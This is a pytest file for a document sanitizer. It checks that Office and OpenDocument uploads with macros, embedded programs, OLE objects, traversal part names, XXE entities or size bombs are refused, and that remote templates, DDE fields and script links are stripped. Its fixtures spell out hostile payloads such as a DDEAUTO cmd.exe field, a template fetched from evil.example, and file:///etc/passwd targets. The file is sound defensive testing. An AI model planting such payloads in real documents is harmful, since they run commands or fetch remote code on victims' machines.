"""Office documents that act, embed or fetch: what runs is refused, the rest is taken out and said."""

import io
import struct
import zipfile
from base64 import b64encode

import pytest

from files.office_files import what_was_taken_out
from tests.files.office import (
    COMPOUND,
    MICROSOFT,
    OFFICE,
    PIXEL,
    Package,
    R,
    W,
    all_of,
    open_document,
    parts_of,
    slides,
    text,
    workbook,
    zipped,
)
from tests.files.uploading import refusal_of, take

PROGRAM = b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0"
MACROS = COMPOUND + "_VBA_PROJECT".encode("utf-16-le")
JAR = zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
BINARY = "application/octet-stream"


def _with(made: Package, name: str, content: str | bytes, *, kind: str = "", relation: str = "") -> bytes:
    made.add(name, content, kind=kind, relation=relation)
    return made.written()


def _with_type(made: Package, kind: str) -> bytes:
    made.types[made.main] = kind
    return made.written()


def _field(*codes: str, shown: str = "Valeur") -> str:
    run = "<w:r>{}</w:r>".format
    instructions = "".join(run(f"<w:instrText>{code}</w:instrText>") for code in codes)
    begin, middle, end = (run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "separate", "end"))
    return f"<w:p>{begin}{instructions}{middle}{run(f'<w:t>{shown}</w:t>')}{end}</w:p>"


def _within(before: str, code: str, after: str, *, shown: str = "DDE") -> str:
    """An instruction with another field in its middle."""
    inner = _field(code, shown=shown).removeprefix("<w:p>").removesuffix("</w:p>")
    return f"{before}</w:instrText></w:r>{inner}<w:r><w:instrText>{after}"


# ── Refused ──────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "data",
    [
        _with(text(), "word/vbaProject.bin", MACROS, kind="application/vnd.ms-office.vbaProject",
              relation=f"{MICROSOFT}/vbaProject"),
        _with(text(), "word/media/image7.png", MACROS, relation="image"),
        _with(text(), "word/renamed.xml", "<x/>", relation=f"{MICROSOFT}/vbaProject"),
        _with(text(), "word/hidden.dat", MACROS),
        _with_type(text(), "application/vnd.ms-word.document.macroEnabled.main+xml"),
        _with_type(workbook(), "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        _with_type(slides(), "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        _with(workbook(), "xl/macrosheets/sheet2.xml", "<x/>", kind="application/vnd.ms-excel.macrosheet+xml",
              relation=f"{MICROSOFT}/xlMacrosheet"),
        _with(workbook(), "xl/worksheets/sheet2.xml", "<x/>", kind="spreadsheetml.worksheet",
              relation=f"{MICROSOFT}/xlIntlMacrosheet"),
        _with(workbook(), "xl/worksheets/sheet2.xml", '<m:macrosheet xmlns:m="http://schemas.microsoft.com/office/excel/2006/main"/>',
              kind="spreadsheetml.worksheet", relation="worksheet"),
        _with(workbook(), "xl/dialogsheets/sheet1.xml", "<x/>", relation="dialogsheet"),
        workbook(names='<definedNames><definedName name="Auto_Open">Un!A1</definedName></definedNames>').written(),
        workbook(names='<definedNames><definedName name="x" function="1" xlm="1">Un!A1</definedName></definedNames>').written(),
        open_document(Basic__Standard__Module1="<x/>"), open_document(Scripts__python__evil="import os"),
    ],
    ids=["vba", "as-picture", "by-relationship", "orphan", "docm", "xlsm", "pptm", "macrosheet", "international", "as-worksheet",
         "dialog", "auto-open", "macro-name", "basic", "python"],
)  # fmt: skip
def test_macros_are_refused_under_whatever_name_they_come(data: bytes) -> None:
    assert "macros" in refusal_of(data)


@pytest.mark.parametrize(
    "data",
    [
        _with(text(), "word/embeddings/oleObject1.bin", COMPOUND, relation="oleObject"),
        _with(text(), "word/media/image1.png", COMPOUND, relation="image"),
        _with(text(), "word/embeddings/x.docx", zipped({"a": "b"}), relation="package"),
        _with(text(), "word/activeX/activeX1.xml", "<x/>", relation="control"),
        _with(text(), "word/x.xml", "<x/>", kind="application/vnd.ms-office.activeX+xml"),
        _with(text(), "word/afchunk.htm", "<script/>", relation="aFChunk"),
        _with(slides(), "ppt/webextension.xml", "<x/>", relation=f"{MICROSOFT}/webextension"),
        text('<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object>').written(),
        open_document(**{"Object 1": COMPOUND}),
    ],
    ids=["ole", "as-picture", "package", "activex", "activex-type", "chunk", "web-add-in", "ole-element", "odf"],
)  # fmt: skip
def test_objects_and_controls_of_other_programs_are_refused(data: bytes) -> None:
    assert "un fichier d’un autre programme" in refusal_of(data)


@pytest.mark.parametrize("program", [PROGRAM, b"\x7fELF\2\1", b"#!/bin/sh\n", b"\xca\xfe\xba\xbe\0\0", JAR, PIXEL + JAR])
@pytest.mark.parametrize("place", ["word/media/image1.png", "word/notes.xml", "customXml/item1.xml"])
def test_a_program_inside_is_refused_by_its_content(program: bytes, place: str) -> None:
    assert "un programme" in refusal_of(_with(text(), place, program))
    assert "un programme" in refusal_of(open_document(**{place.replace("/", "__"): program}))


@pytest.mark.parametrize("relation", ["externalLink", "connections", "queryTable"])
def test_a_workbook_that_takes_data_from_elsewhere_is_refused(relation: str) -> None:
    made = workbook()
    made.add("xl/other.xml", f"<{relation}/>", relation=relation)
    made.relate("externalLinkPath", "file://evil/share/x.xlsx", source="xl/other.xml", is_outside=True)
    assert "d’autres classeurs" in refusal_of(made.written())


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/cron.d/x", "word/../../x", "/etc/passwd", "word\\evil.xml", "C:/x", "word//x", "word/./x",
        "WORD/Document.xml", "word/%2e%2e/%2e%2e/x", "word/a\nb",
    ],
)  # fmt: skip
def test_a_part_whose_name_leads_elsewhere_or_over_another_is_refused(name: str) -> None:
    assert "noms" in refusal_of(_with(text(), name, "<x/>"))


def test_a_part_that_is_there_twice_a_zero_byte_and_a_link_are_refused() -> None:
    data = text().written()
    file = io.BytesIO(data)
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(file, "a") as package:
        package.writestr("word/document.xml", "<x/>")
    assert "noms" in refusal_of(file.getvalue())
    assert "noms" in refusal_of(_with(text(), "word/evil.xmlQtxt", "<x/>").replace(b"evil.xmlQtxt", b"evil.xml\0txt"))
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    file = io.BytesIO(data)
    with zipfile.ZipFile(file, "a") as package:
        package.writestr(link, "/etc/passwd")
    assert "noms" in refusal_of(file.getvalue())


def test_a_relationship_that_leaves_the_document_is_refused() -> None:
    made = text()
    made.relate("image", "../../../../etc/passwd")
    assert "noms" in refusal_of(made.written())


@pytest.mark.parametrize("markup", ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "<x><y></x>", "\xff"])
def test_markup_with_entities_or_without_end_is_refused(markup: str) -> None:
    made = text()
    made.add("word/styles.xml", markup, kind="wordprocessingml.styles", relation="styles")
    assert "endommagé" in refusal_of(made.written())


def test_a_document_of_millions_of_elements_and_one_that_lies_about_its_size_are_refused() -> None:
    made = workbook()
    made.add("xl/styles.xml", b"<x>" + b"<xf/>" * 3_000_001 + b"</x>", kind="spreadsheetml.styles", relation="styles")
    assert "trop volumineux" in refusal_of(made.written())
    assert "trop volumineux" in refusal_of(zipped({f"word/{number}.xml": "<x/>" for number in range(5001)}))
    data = _with(text(), "word/big.xml", b"0" * 200_000)
    assert "endommagé" in refusal_of(data.replace(struct.pack("<L", 200_000), struct.pack("<L", 10)))


# ── Taken out ────────────────────────────────────────────────────────────────────────────────────────────────


def test_an_attached_template_goes_and_its_place_is_not_what_was_taken_out() -> None:
    made = text()
    settings = f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>'
    made.add("word/settings.xml", settings, kind="wordprocessingml.settings", relation="settings")
    made.relate("attachedTemplate", "https://evil.example/x.dotm", source="word/settings.xml", is_outside=True)
    accepted = take(made.written())
    found = all_of(accepted.data)
    assert b"evil" not in found
    assert b"attachedTemplate" not in found
    assert b"<w:zoom" in found
    assert accepted.removed == ()


@pytest.mark.parametrize(
    "target",
    [
        "file://evil/share/x",
        "\\\\evil\\share",
        "javascript:evil()",
        "ftp://evil/x",
        "evil.docx",
        "https:\\\\evil\\x",
        "ms-word:ofe|u|evil",
    ],
)
def test_links_lead_to_pages_and_letters_only(target: str) -> None:
    made = text(
        '<w:p><w:hyperlink r:id="bad"><w:r><w:t>Un mot</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="page"><w:r><w:t>page</w:t></w:r></w:hyperlink><w:hyperlink r:id="letter"/></w:p>'
    )
    made.relate("hyperlink", target, is_outside=True, identity="bad")
    made.relate("hyperlink", "https://exemple.ca/a?b=1#c", is_outside=True, identity="page")
    made.relate("hyperlink", "mailto:x@exemple.ca", is_outside=True, identity="letter")
    accepted = take(made.written())
    found = all_of(accepted.data)
    assert b"evil" not in found
    assert b'r:id="bad"' not in found
    for kept in (b"Un mot", b"https://exemple.ca/a?b=1#c", b'r:id="page"', b"mailto:x@exemple.ca"):
        assert kept in found
    assert "liens vers des fichiers" in what_was_taken_out(accepted.removed)


@pytest.mark.parametrize("relation", ["image", "video", "audio", "subDocument", "frame", "slide", "chart", f"{OFFICE}/unknown"])
def test_nothing_but_a_link_comes_from_outside_of_the_document(relation: str) -> None:
    made = slides(
        '<p:pic><p:blipFill><a:blip r:link="out"/></p:blipFill></p:pic><p:sp><p:nvPr><a:videoFile r:link="out"/></p:nvPr></p:sp>'
    )
    made.relate(relation, "http://evil.example/x", source="ppt/slides/slide1.xml", is_outside=True, identity="out")
    accepted = take(made.written())
    found = all_of(accepted.data)
    assert b"evil" not in found
    assert b'"out"' not in found
    assert b"<a:blip/>" in found
    assert accepted.removed == ("links",)


def test_a_part_of_an_unknown_kind_is_not_copied() -> None:
    made = text()
    made.add("word/new.xml", "<x/>", kind="wordprocessingml.new", relation="new")
    made.add("word/styles.xml", "<x/>", kind="wordprocessingml.numbering", relation="styles")
    made.add("word/orphan.bin", b"\x01\x02")
    made.add("word/media/image1.png", b"\x00\x01\x02", relation="image")
    accepted = take(made.written())
    assert set(parts_of(accepted.data)) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
    assert "des parties d’un type inconnu" in what_was_taken_out(accepted.removed)


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k evil"'


@pytest.mark.parametrize(
    "body",
    [
        _field(DDE), _field("D", "DE ", 'cmd "/k evil"'), _field(' dde cmd "evil"'),
        f"<w:p><w:fldSimple w:instr='{DDE.replace(chr(34), '')} evil'><w:r><w:t>Valeur</w:t></w:r></w:fldSimple></w:p>",
        _field('INCLUDEPICTURE "http://evil/x.png"'), _field('INCLUDETEXT "\\\\evil\\x"'), 
        _field('LINK Excel.Sheet.12 "evil.xlsx"'),
        _field('HYPERLINK "file://evil/x"'), _field('HYPERLINK \\l "a" "evil.exe"'), 
        _field("MACROBUTTON evil"), _field("QUOTE evil"),
        # The word is made by another field: by the whole of it, and by its middle.
        _field(_within("", "QUOTE 68 68 69", " cmd evil")), _field(_within("D", "PAGE", "ATE", shown="DEAUTO cmd evil ")),
    ],
    ids=["auto", "split", "lower", "simple", "picture", "text", "link", "file-link", "second-word", "macro", "quote",
         "nested", "middle"],
)  # fmt: skip
def test_a_field_that_starts_or_fetches_becomes_what_it_shows(body: str) -> None:
    accepted = take(text(body).written())
    document = parts_of(accepted.data)["word/document.xml"]
    for trace in (b"evil", b"instrText", b"fldChar", b"instr="):
        assert trace not in document
    assert b"Valeur" in document
    assert "champs" in what_was_taken_out(accepted.removed)


def test_fields_that_count_refer_and_link_stay() -> None:
    body = (
        _field("PAGE \\* MERGEFORMAT")
        + _field('HYPERLINK "https://exemple.ca/" \\o "Voir : la page"')
        + _field('HYPERLINK \\l "_Toc1"')
    )
    body += _field(_within('TOC \\o "1-3" ', "PAGE", "", shown="2"))
    accepted = take(text(body).written())
    assert accepted.removed == ()
    assert parts_of(accepted.data)["word/document.xml"].count(b'w:fldCharType="begin"') == 5


def test_shapes_of_a_slide_or_sheet_start_nothing() -> None:
    made = slides(
        '<a:hlinkClick action="ppaction://program" r:id="x"/><a:hlinkHover action="ppaction://macro?name=evil"/>'
        '<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide" r:id=""/><p:sp macro="evil"/>'
    )
    accepted = take(made.written())
    slide = parts_of(accepted.data)["ppt/slides/slide1.xml"]
    assert b"evil" not in slide
    assert slide.count(b"ppaction") == 1
    assert accepted.removed == ("actions", "links")


def test_a_drawing_of_a_comment_fetches_nothing() -> None:
    made = workbook(after='<legacyDrawing r:id="rId1"/>')
    drawing = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        '<v:shape href="file://evil/x">'
        '<v:imagedata src="http://evil/x.png"/><x:ClientData><x:FmlaMacro>evil</x:FmlaMacro></x:ClientData><br></v:shape></xml>'
    )
    made.add("xl/drawings/vmlDrawing1.vml", drawing, kind=BINARY, relation="vmlDrawing", source="xl/worksheets/sheet1.xml")
    found = parts_of(take(made.written()).data)
    assert b"evil" not in found["xl/drawings/vmlDrawing1.vml"]
    assert b"v:shape" in found["xl/drawings/vmlDrawing1.vml"]
    assert b"vmlDrawing" in found["[Content_Types].xml"]


LISTENER = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:evil.py$run?language=Python&amp;location=user"/></office:event-listeners>'
)


@pytest.mark.parametrize(
    ("body", "before", "removed"),
    [
        ("", f"<office:scripts>{LISTENER}</office:scripts>", "actions"), (LISTENER, "", "actions"),
        ('<draw:frame><draw:image xlink:href="http://evil/x.png"/></draw:frame>', "", "links"),
        ('<draw:frame><draw:image xlink:href="../../evil"/></draw:frame>', "", "links"),
        ('<draw:frame><draw:object-ole xlink:href="./evil"/></draw:frame>', "", "links"),
        ('<draw:plugin xlink:href="http://evil/x"/><draw:floating-frame xlink:href="evil"/>', "", "links"),
        ('<text:section><text:section-source xlink:href="file://evil/x"/></text:section>', "", "links"),
        ('<text:p><text:a xlink:href="javascript:evil()">Mot</text:a></text:p>', "", "links"),
        ('<text:p><text:a xlink:href="vnd.sun.star.script:evil">Mot</text:a></text:p>', "", "links"),
        ('<form:form xlink:href="http://evil/"><form:button xlink:href="file://evil"/></form:form>', "", "links"),
        ('<text:p><text:execute-macro text:name="evil">Mot</text:execute-macro></text:p>', "", "fields"),
        ('<table:table-cell table:formula="of:=DDE(&quot;evil&quot;)">Mot</table:table-cell>', "", "formulas"),
        ('<text:dde-connection-decls><text:dde-connection-decl office:name="evil"/></text:dde-connection-decls>', "", ""),
    ],
)  # fmt: skip
def test_an_opendocument_listens_fetches_and_starts_nothing(body: str, before: str, removed: str) -> None:
    accepted = take(open_document(f"<text:p>Bonjour</text:p>{body}", before=before))
    content = parts_of(accepted.data)["content.xml"]
    assert b"evil" not in content
    assert b"Bonjour" in content
    assert (b"Mot" in content) == ("Mot" in body)
    assert accepted.removed == ((removed,) if removed else ())


def test_a_picture_written_into_the_text_is_a_picture() -> None:
    def frame(data: bytes) -> str:
        inside = f"<office:binary-data>{b64encode(data).decode()}</office:binary-data>"
        return f"<draw:frame><draw:image>{inside}</draw:image></draw:frame>"

    kept = take(open_document(frame(PIXEL)))
    assert b64encode(PIXEL) in parts_of(kept.data)["content.xml"]
    assert kept.removed == ()
    assert b"binary-data" not in parts_of(take(open_document(frame(b"evil"))).data)["content.xml"]
    assert "un programme" in refusal_of(open_document(frame(PROGRAM)))
